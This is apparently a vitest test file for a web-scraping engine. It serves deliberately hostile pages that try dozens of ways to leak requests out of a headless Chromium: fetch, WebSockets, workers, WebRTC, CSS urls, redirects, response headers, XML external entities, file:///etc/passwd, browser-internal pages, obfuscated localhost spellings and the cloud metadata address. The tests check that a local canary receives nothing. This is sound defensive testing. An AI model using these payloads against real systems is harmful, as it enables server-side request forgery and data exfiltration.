/** A hostile page tries every way out of the browser: nothing may reach a host that the engine does not allow. */

import { createSocket } from "node:dgram";
import { createServer } from "node:http";
import { type AddressInfo, createServer as createTcpServer, type Server } from "node:net";
import { chromiumRenderer } from "@quern/browser";
import { createEngine, type Document } from "@quern/core";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";

/** Everything in one page; `TARGET` is `host:port` of the canary, `N` numbers the vector. */
const SUBRESOURCES = `
<link rel="preconnect" href="http://TARGET/"><link rel="dns-prefetch" href="http://TARGET/"><link rel="prefetch" href="http://TARGET/prefetch">
<link rel="preload" as="image" href="http://TARGET/preload"><link rel="modulepreload" href="http://TARGET/modulepreload.js">
<link rel="stylesheet" href="http://TARGET/style.css"><link rel="icon" href="http://TARGET/icon.png"><link rel="manifest" href="http://TARGET/manifest.json">
<style>@import "http://TARGET/import.css"; @font-face { font-family: x; src: url(http://TARGET/font.woff2) } body { background: url(http://TARGET/background.png); font-family: x }</style>
<script src="http://TARGET/script.js"></script><script type="module">import("http://TARGET/module.js").catch(() => {})</script>
<script type="speculationrules">{"prefetch":[{"urls":["http://TARGET/speculation-prefetch"]}],"prerender":[{"urls":["http://TARGET/speculation-prerender"]}]}</script>
<img src="http://TARGET/img.png" srcset="http://TARGET/srcset.png 2x"><img src="http://SITE/redirect?to=http://TARGET/redirected-img">
<iframe src="http://TARGET/iframe"></iframe><iframe src="http://SITE/redirect?to=http://TARGET/redirected-iframe"></iframe>
<iframe srcdoc='<img src="http://TARGET/srcdoc">'></iframe><iframe src="file:///etc/passwd"></iframe><iframe src="view-source:http://TARGET/view-source"></iframe>
<object data="http://TARGET/object"></object><embed src="http://TARGET/embed"><video src="http://TARGET/video.mp4" poster="http://TARGET/poster.png" autoplay></video>
<audio src="http://TARGET/audio.mp3" autoplay></audio><svg><image href="http://TARGET/svg-image"/><use href="http://TARGET/svg-use#x"/></svg><input type="image" src="http://TARGET/input">
<a id="ping" href="#x" ping="http://TARGET/ping">ping</a><form id="form" action="http://TARGET/form" target="framed" method="post"></form><iframe name="framed"></iframe>
<main><h1>Still a page</h1><p id="done"></p></main>
<script>
const quiet = (work) => { try { const r = work(); if (r && r.catch) r.catch(() => {}); } catch {} };
const blob = (code) => URL.createObjectURL(new Blob([code], { type: "text/javascript" }));
quiet(() => fetch("http://TARGET/fetch", { mode: "no-cors" }));
quiet(() => fetch("http://SITE/redirect?to=http://TARGET/redirected-fetch", { mode: "no-cors" }));
quiet(() => { const x = new XMLHttpRequest(); x.open("GET", "http://TARGET/xhr"); x.send(); });
quiet(() => navigator.sendBeacon("http://TARGET/beacon", "x"));
quiet(() => new EventSource("http://TARGET/eventsource"));
quiet(() => new WebSocket("ws://TARGET/ws"));
quiet(() => new WebSocket("wss://TARGET/wss"));
quiet(() => fetch("https://TARGET/https", { mode: "no-cors" }));
quiet(() => new Worker(blob('fetch("http://TARGET/worker-fetch", { mode: "no-cors" }); new WebSocket("ws://TARGET/worker-ws"); try { importScripts("http://TARGET/import-scripts.js") } catch {}')));
quiet(() => new SharedWorker(blob('fetch("http://TARGET/shared-worker", { mode: "no-cors" }); new WebSocket("ws://TARGET/shared-worker-ws");')));
quiet(() => navigator.serviceWorker.register("/service-worker.js"));
quiet(() => { const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:UDP" }, { urls: "turn:TARGET?transport=tcp", username: "a", credential: "b" }] }); peer.createDataChannel("x"); peer.createOffer().then((o) => peer.setLocalDescription(o)); });
quiet(() => new WebTransport("https://TARGET/webtransport").ready);
quiet(() => window.open("http://TARGET/popup"));
quiet(() => document.getElementById("ping").click());
quiet(() => document.getElementById("form").submit());
quiet(() => { const s = document.createElement("script"); s.src = "http://TARGET/late.js"; document.body.append(s); });
for (const host of ["localhost:PORT", "[::1]:PORT", "[::ffff:127.0.0.1]:PORT", "2130706433:PORT", "0x7f.1:PORT", "0.0.0.0:PORT", "127.1:PORT"]) quiet(() => fetch("http://" + host + "/spelling", { mode: "no-cors" }));
document.getElementById("done").textContent = "All of it was tried, and the page goes on for long enough to be worth reading.";
</script>`;

/** Rarer ways, and those that the browser's own process takes for a page. */
const RARE = `
<link rel="prerender" href="http://TARGET/prerender"><link rel="search" type="application/opensearchdescription+xml" href="http://TARGET/search.xml">
<link rel="stylesheet" href="http://SITE/redirect?to=http://TARGET/redirected-style"><script src="http://SITE/redirect?to=http://TARGET/redirected-script"></script>
<style>
  @import url("http://TARGET/import-layer.css") layer(x); @font-face { font-family: y; src: url(http://SITE/redirect?to=http://TARGET/redirected-font) }
  p { cursor: url(http://TARGET/cursor), auto; list-style-image: url(http://TARGET/bullet); mask-image: url(http://TARGET/mask); filter: url(http://TARGET/filter#x); font-family: y;
      border-image-source: image-set(url(http://TARGET/image-set) 1x); shape-outside: url(http://TARGET/shape) }
  p::before { content: url(http://TARGET/content) }
</style>
<video autoplay muted><source src="http://TARGET/source.mp4"><track default src="http://TARGET/track.vtt"></video><video src="http://SITE/range" preload="auto" autoplay muted></video>
<svg><script href="http://TARGET/svg-script.js"></script><filter><feImage href="http://TARGET/fe-image"/></filter></svg>
<math href="http://TARGET/math"></math><portal src="http://TARGET/portal"></portal><fencedframe></fencedframe><img attributionsrc="https://TARGET/attribution" src="http://SITE/none">
<iframe src="data:text/html,<img src='http://TARGET/data-frame'>"></iframe><iframe src="http://SITE/xslt"></iframe><iframe sandbox srcdoc='<meta http-equiv="refresh" content="0;url=http://TARGET/frame-refresh">'></iframe>
<iframe src="http://SITE/headers"></iframe><iframe src="chrome://version"></iframe><iframe src="devtools://devtools/bundled/inspector.html"></iframe><iframe src="filesystem:http://TARGET/x"></iframe>
<main><h1>Still a page</h1><p>All of it was tried, and the page goes on for long enough to be worth reading.</p></main>
<script>
const quiet = (work) => { try { const r = work(); if (r && r.catch) r.catch(() => {}); } catch {} };
const blob = (code, type = "text/javascript") => URL.createObjectURL(new Blob([code], { type }));
quiet(() => import("http://TARGET/data.json", { with: { type: "json" } }));
quiet(() => import("http://TARGET/sheet.css", { with: { type: "css" } }));
quiet(() => fetch("http://TARGET/keepalive", { keepalive: true, mode: "no-cors" }));
quiet(() => fetch("http://TARGET/upload", { method: "POST", body: "secret", mode: "no-cors" }));
quiet(() => fetchLater("https://TARGET/fetch-later", { activateAfter: 0 }));
quiet(() => caches.open("x").then((c) => c.add(new Request("http://TARGET/cache-add", { mode: "no-cors" }))));
quiet(() => new WebSocket("ws://SITE/redirect?to=ws://TARGET/redirected-ws"));
quiet(() => new WebSocketStream("ws://TARGET/ws-stream").opened);
quiet(() => new EventSource("http://SITE/redirect?to=http://TARGET/redirected-eventsource"));
quiet(() => new Worker(blob('new EventSource("http://TARGET/worker-eventsource"); import("http://TARGET/worker-import.js").catch(() => {}); const x = new XMLHttpRequest(); x.open("GET", "http://TARGET/worker-xhr", false); try { x.send() } catch {}; new Worker(URL.createObjectURL(new Blob(["fetch(\`http://TARGET/nested-worker\`, { mode: \`no-cors\` })"])))')));
quiet(() => new SharedWorker(blob('new WebSocket("wss://TARGET/shared-worker-wss"); new EventSource("http://TARGET/shared-worker-eventsource")')));
quiet(() => new AudioContext().audioWorklet.addModule("http://TARGET/audio-worklet.js"));
quiet(() => CSS.paintWorklet.addModule("http://TARGET/paint-worklet.js"));
quiet(() => new PaymentRequest([{ supportedMethods: "https://TARGET/pay" }], { total: { label: "x", amount: { currency: "EUR", value: "1" } } }).canMakePayment());
quiet(() => navigator.credentials.get({ identity: { providers: [{ configURL: "https://TARGET/fedcm.json", clientId: "x" }] } }));
quiet(() => navigator.joinAdInterestGroup({ owner: "https://TARGET", name: "x", biddingLogicURL: "https://TARGET/bid.js" }, 60));
quiet(() => new Notification("x", { icon: "http://TARGET/notification.png" }));
quiet(() => { navigator.mediaSession.metadata = new MediaMetadata({ artwork: [{ src: "http://TARGET/artwork.png" }] }); });
for (const address of ["file:///etc/passwd", "view-source:http://TARGET/view-source", "chrome://crash", "chrome://settings", "mailto:a@TARGET", "intent://TARGET/#Intent;scheme=http;end", "ftp://TARGET/ftp", "http://TARGET/tab", "about:blank"]) {
  quiet(() => { const tab = window.open(address); if (tab) tab.document.write('<img src="http://TARGET/in-tab">'); });
  quiet(() => { const a = document.createElement("a"); a.href = address; a.target = "_blank"; a.rel = "noopener"; document.body.append(a); a.click(); });
}
quiet(() => { const a = document.createElement("a"); a.href = "http://TARGET/download"; a.download = "x"; a.target = "_blank"; document.body.append(a); a.click(); });
quiet(() => { const f = document.createElement("form"); f.action = "http://TARGET/form-tab"; f.target = "_blank"; document.body.append(f); f.submit(); });
</script>`;

/** Requests that a server can cause in a browser by headers alone. */
const HEADERS = {
  link: "<http://TARGET/link-preload>; rel=preload; as=script, <http://TARGET/>; rel=preconnect, <http://TARGET/link-style.css>; rel=stylesheet",
  refresh: "0; url=http://TARGET/refresh-header",
  "content-security-policy": "img-src 'none'; report-uri http://TARGET/csp-report",
  "reporting-endpoints": 'default="http://TARGET/reporting"',
  "report-to": '{"group":"default","max_age":60,"endpoints":[{"url":"http://TARGET/report-to"}]}',
  nel: '{"report_to":"default","max_age":60,"success_fraction":1}',
  "alt-svc": 'h2="TARGET"; ma=60',
  sourcemap: "http://TARGET/source.map",
  "speculation-rules": '"http://TARGET/rules.json"',
};

const NAVIGATIONS: Readonly<Record<string, string>> = {
  "a meta refresh": '<meta http-equiv="refresh" content="0;url=http://TARGET/refresh"><p>wait</p>',
  "a script": '<script>location.href = "http://TARGET/location"</script>',
  "a form": '<form id="f" action="http://TARGET/form" method="post"></form><script>f.submit()</script>',
  "a redirect": "REDIRECT",
  "a refresh to a file":
    '<meta http-equiv="refresh" content="0;url=file:///etc/passwd"><p>this page stays where it is</p>',
  "a script to view-source":
    '<p>this page stays where it is</p><script>location.href = "view-source:file:///etc/passwd"</script>',
  "a script to the browser's own pages":
    '<p>this page stays where it is</p><script>for (const name of ["chrome://settings", "devtools://devtools/bundled/inspector.html", "chrome-untrusted://print"]) try { location.href = name } catch {}</script>',
  "a data page": `<p>this page stays where it is</p><script>try { location.href = "data:text/html,<img src='http://TARGET/data'>" } catch {}</script>`,
  "a blob page": `<script>location.href = URL.createObjectURL(new Blob(["<p>this page stays where it is</p><img src='http://TARGET/blob'><script>location.href='http://TARGET/from-blob'</" + "script>"], { type: "text/html" }))</script>`,
  "an address for another program":
    '<p>this page stays where it is</p><script>location.href = "intent://TARGET/#Intent;scheme=http;end"; location.href = "mailto:a@example.com"</script>',
  "a redirect to a file": "FILE",
};

interface Canary {
  readonly host: string;
  readonly paths: Set<string>;
  connections: number;
  close(): void;
}

const listen = (server: Server, host: string): Promise<number> =>
  new Promise((resolve) => server.listen(0, host, () => resolve((server.address() as AddressInfo).port)));

async function startCanary(): Promise<Canary> {
  const paths = new Set<string>();
  const server = createServer((request, response) => {
    paths.add(request.url ?? "");
    response.writeHead(200, { "content-type": "text/plain", "access-control-allow-origin": "*" });
    response.end("canary");
  });
  const canary: Canary = { host: "", paths, connections: 0, close: () => server.close() };
  server.on("connection", () => canary.connections++);
  // All addresses of the machine: a leak through any spelling arrives.
  const port = await listen(server, "0.0.0.0");
  return Object.assign(canary, { host: `127.0.0.1:${port}` });
}

async function startHostileSite(target: () => string, udpPort: number) {
  let own = "";
  const fill = (text: string): string =>
    text
      .replaceAll("TARGET", target())
      .replaceAll("SITE", own)
      .replaceAll("PORT", target().split(":")[1] ?? "")
      .replaceAll("UDP", `127.0.0.1:${udpPort}`);
  const server = createServer((request, response) => {
    const url = new URL(request.url ?? "/", "http://x");
    const send = (body: string): void => {
      response.writeHead(200, { "content-type": "text/html" });
      response.end(`<!doctype html><title>Hostile</title>${fill(body)}`);
    };
    if (url.pathname === "/redirect") {
      response.writeHead(302, { location: url.searchParams.get("to") ?? "" });
      response.end();
    } else if (url.pathname === "/subresources") send(SUBRESOURCES);
    else if (url.pathname === "/rare") send(RARE);
    else if (url.pathname === "/headers") {
      const headers = Object.entries(HEADERS).map(([name, value]) => [name, fill(value)] as const);
      response.writeHead(200, { "content-type": "text/html", ...Object.fromEntries(headers) });
      response.end('<!doctype html><img src="x"><p>Still a page by its headers</p>');
    } else if (url.pathname === "/xslt") {
      response.writeHead(200, { "content-type": "text/xml" });
      response.end(
        fill(
          '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="http://TARGET/sheet.xsl"?><!DOCTYPE a [<!ENTITY e SYSTEM "http://TARGET/entity">]><a>&e;</a>',
        ),
      );
    } else if (url.pathname === "/range") {
      // The rest of a film is elsewhere.
      if (/bytes=0-$/.test(request.headers.range ?? "bytes=0-")) {
        response.writeHead(206, {
          "content-type": "video/mp4",
          "content-range": "bytes 0-31/1000000",
          "accept-ranges": "bytes",
        });
        return void response.end(
          Buffer.from("000000206674797069736f6d0000020069736f6d69736f3261766331 6d703431".replace(" ", ""), "hex"),
        );
      }
      response.writeHead(302, { location: fill("http://TARGET/range") });
      response.end();
    } else if (url.pathname.startsWith("/navigate/")) {
      const body = NAVIGATIONS[decodeURIComponent(url.pathname.slice(10))] ?? "";
      if (body !== "REDIRECT" && body !== "FILE") return send(body);
      response.writeHead(302, { location: body === "FILE" ? "file:///etc/passwd" : `http://${target()}/redirected` });
      response.end();
    } else {
      response.writeHead(404);
      response.end();
    }
  });
  const port = await listen(server, "127.0.0.1");
  own = `127.0.0.1:${port}`;
  return { host: own, close: () => server.close() };
}

let canary: Canary;
let udpPackets = 0;
const udp = createSocket("udp4", () => {}).on("message", () => udpPackets++);
let site: Awaited<ReturnType<typeof startHostileSite>>;

beforeAll(async () => {
  canary = await startCanary();
  await new Promise<void>((resolve) => udp.bind(0, "127.0.0.1", resolve));
  site = await startHostileSite(() => canary.host, udp.address().port);
});
afterAll(() => {
  canary.close();
  site.close();
  udp.close();
});

beforeEach(() => {
  canary.paths.clear();
  canary.connections = 0;
  udpPackets = 0;
});

const visit = async (path: string, allow: readonly string[]): Promise<Document> => {
  const engine = createEngine({ network: { allow }, renderer: chromiumRenderer() });
  try {
    return (await engine.scrape(`http://${site.host}${path}`, {
      engine: "browser",
      waitFor: 2_000,
      blockAds: false,
      formats: ["markdown", "rawHtml"],
    })) as Document;
  } finally {
    await engine.close();
  }
};

describe("the canary", () => {
  it("sees the vectors when its host is allowed: they are real", async () => {
    await visit("/subresources", [site.host, canary.host]);
    const seen = [...canary.paths];
    for (const path of [
      "/img.png",
      "/style.css",
      "/iframe",
      "/fetch",
      "/worker-fetch",
      "/shared-worker",
      "/redirected-img",
      "/eventsource",
      "/form",
    ]) {
      expect(seen).toContain(path);
    }
    expect(seen.length).toBeGreaterThan(25);
  });

  it("sees the rare ones too", async () => {
    await visit("/rare", [site.host, canary.host]);
    const seen = [...canary.paths];
    for (const path of [
      "/redirected-style",
      "/cursor",
      "/keepalive",
      "/worker-eventsource",
      "/nested-worker",
      "/data-frame",
      "/link-preload",
    ]) {
      expect(seen).toContain(path);
    }
    expect(seen.length).toBeGreaterThan(25);
  });

  it.each(["/subresources", "/rare", "/headers"])("hears nothing from anything in %s when it is not", async (path) => {
    const page = await visit(path, [site.host]).catch((error: unknown) => {
      // By a header the page goes on to the canary, and that is refused.
      if (path !== "/headers") throw error;
      expect(error).toMatchObject({ code: "SCRAPE_BLOCKED_ADDRESS" });
      return { markdown: "Still a page", rawHtml: "" };
    });
    expect(page.markdown).toContain("Still a page");
    expect(page.rawHtml).not.toMatch(/root:.*:0:0|canary/);
    expect([...canary.paths]).toEqual([]);
    expect(canary.connections).toBe(0);
    expect(udpPackets).toBe(0);
  });

  it.each(Object.keys(NAVIGATIONS))("hears nothing through %s; no error page becomes content", async (name) => {
    const outcome = await visit(`/navigate/${encodeURIComponent(name)}`, [site.host]).catch(
      (error: unknown) => error as Error,
    );
    expect(canary.connections).toBe(0);
    const code = /file|own pages/.test(name) ? "SCRAPE_SITE_ERROR" : "SCRAPE_BLOCKED_ADDRESS";
    if (outcome instanceof Error) expect(outcome).toMatchObject({ code });
    else expect(outcome.markdown).toContain("this page stays where it is");
  });
});

describe("the engine", () => {
  it.each(["http://127.0.0.1:1/", "http://[::1]:1/", "http://169.254.169.254/latest/meta-data", "http://10.0.0.1/"])(
    "refuses %s before a browser sees it",
    async (url) => {
      const engine = createEngine({ renderer: chromiumRenderer() });
      await expect(engine.scrape(url, { engine: "browser" })).rejects.toMatchObject({
        code: expect.stringMatching(/BAD_REQUEST|SCRAPE_BLOCKED_ADDRESS/),
      });
      await engine.close();
    },
  );

  it("refuses a name that resolves to a private address, also when only one of several does", async () => {
    const resolve = async () => [
      { address: "93.184.216.34", family: 4 },
      { address: "127.0.0.1", family: 4 },
    ];
    const engine = createEngine({ renderer: chromiumRenderer(), network: { resolve } });
    for (const scheme of ["http", "https"]) {
      await expect(engine.scrape(`${scheme}://mixed.example/`, { engine: "browser" })).rejects.toMatchObject({
        code: "SCRAPE_BLOCKED_ADDRESS",
      });
    }
    await engine.close();
  });

  it.each(["file:///etc/passwd", "view-source:http://example.com", "chrome://version"])("refuses %s", async (url) => {
    const engine = createEngine({ renderer: chromiumRenderer() });
    await expect(engine.scrape(url, { engine: "browser" })).rejects.toMatchObject({ code: "BAD_REQUEST" });
    await engine.close();
  });

  it("names a host that does not exist and one that refuses connections", async () => {
    const server = createTcpServer();
    const port = await listen(server, "127.0.0.1");
    server.close();
    const engine = createEngine({ renderer: chromiumRenderer(), network: { allow: [`127.0.0.1:${port}`] } });
    await expect(engine.scrape(`http://127.0.0.1:${port}/`, { engine: "browser" })).rejects.toMatchObject({
      code: "SCRAPE_SITE_ERROR",
      message: expect.stringContaining("refused the connection"),
    });
    await expect(engine.scrape("http://no-such-host.invalid/", { engine: "browser" })).rejects.toMatchObject({
      code: "SCRAPE_DNS_RESOLUTION_ERROR",
    });
    await engine.close();
  });
});
